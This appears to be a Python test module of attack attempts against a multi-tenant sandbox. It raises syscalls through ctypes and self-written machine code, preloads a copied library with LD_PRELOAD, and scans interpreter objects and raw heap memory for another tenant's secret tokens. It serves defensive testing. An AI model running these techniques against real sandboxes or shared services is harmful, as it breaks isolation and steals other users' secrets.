"""Attacks with what Python offers: foreign functions, machine code, preloaded libraries, other people's objects."""

# An attacker's file calls are the plain ones, on the paths that every machine has:
# ruff: noqa: PTH108, PTH123, S108

from __future__ import annotations

import _ctypes
import ctypes
import gc
import mmap
import os
import platform
import re
import subprocess
import sys
from typing import Any, Final

from tests.attacks.agents.attempt import Attempt, number

SECRET: Final = re.compile(r"tenant-[0-9a-f]{32}")
PAGE: Final = 64 * 1024
ARENA: Final = 1024 * 1024
MOST_ARENAS: Final = 64


def socket_by_ctypes(attempt: Attempt) -> str:
    """No Python between us and the kernel's door."""
    return f"descriptor {attempt.syscall('socket', 1, 1, 0)}"


def socket_by_machine_code(attempt: Attempt) -> str:
    """Nor a C library: the instruction itself, from memory that we wrote."""
    call = _machine_code(_instructions(number("socket")))
    attempt.begin()
    return _answer(call(1, 1, 0))


def socket_by_the_calls_of_32_bits(attempt: Attempt) -> str:
    """The same through another table of numbers, in which 359 is socket; a filter of numbers alone would miss it."""
    call = _machine_code(b"\x53\x89\xfb\x89\xf1\xb8" + (359).to_bytes(4, "little") + b"\xcd\x80\x5b\xc3")
    attempt.begin()
    return _answer(ctypes.c_int(call(1, 1, 0)).value)


def preload_a_library(attempt: Attempt) -> str:
    """Write a library and have the loader load it into another program."""
    path = f"/tmp/{attempt.given['unique']}"
    attempt.begin()
    with open(_ctypes.__file__, "rb") as source, open(path, "xb") as copy:
        copy.write(source.read())
    try:
        code = f"print({path!r} in open('/proc/self/maps').read())"
        command = [sys.executable, "-I", "-S", "-c", code]
        done = subprocess.run(command, env={"LD_PRELOAD": path}, capture_output=True, text=True, check=True)
    finally:
        os.unlink(path)
    return "loaded" if done.stdout == "True\n" else ""


def objects_of_another_tenant(attempt: Attempt) -> str:
    """Look through every object that this interpreter knows of."""
    attempt.begin()
    gc.unfreeze()
    gc.collect()
    texts = {each for holder in gc.get_objects() for each in _strings(holder)}
    return " ".join(sorted({match[0] for text in texts for match in SECRET.finditer(text)}))


def memory_of_another_tenant(attempt: Attempt) -> str:
    """Look through the raw memory around every object, freed or not, by writing it into a pipe, which cannot fault."""
    write = ctypes.CDLL(None, use_errno=True).write
    write.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t)
    gc.unfreeze()
    arenas = sorted({id(each) // ARENA for each in gc.get_objects()})[:MOST_ARENAS]
    source, sink = os.pipe()
    seen: set[str] = set()
    attempt.begin()
    for address in (arena * ARENA + page for arena in arenas for page in range(0, ARENA, PAGE)):
        if (written := write(sink, address, PAGE)) > 0:
            text = os.read(source, written).decode("latin-1")
            seen.update(match[0] for match in SECRET.finditer(text))
    return " ".join(sorted(seen))


def _strings(holder: Any) -> list[str]:
    values = list(holder.values()) if type(holder) is dict else holder
    return [each for each in values if type(each) is str] if type(values) in {list, tuple, set} else []


def _machine_code(instructions: bytes) -> Any:
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(instructions)
    kind = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_long, ctypes.c_long)
    function = kind(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    function.page = page  # type: ignore[attr-defined]  # It lives as long as what points into it.
    return function


def _instructions(call: int) -> bytes:
    if platform.machine() == "aarch64":  # mov x8, #call; svc #0; ret
        words = (0xD2800008 | call << 5, 0xD4000001, 0xD65F03C0)
        return b"".join(word.to_bytes(4, "little") for word in words)
    return b"\xb8" + call.to_bytes(4, "little") + b"\x0f\x05\xc3"  # mov eax, call; syscall; ret


def _answer(answer: int) -> str:
    if answer < 0:
        raise OSError(-answer, "the kernel's own answer")
    return f"descriptor {answer}"
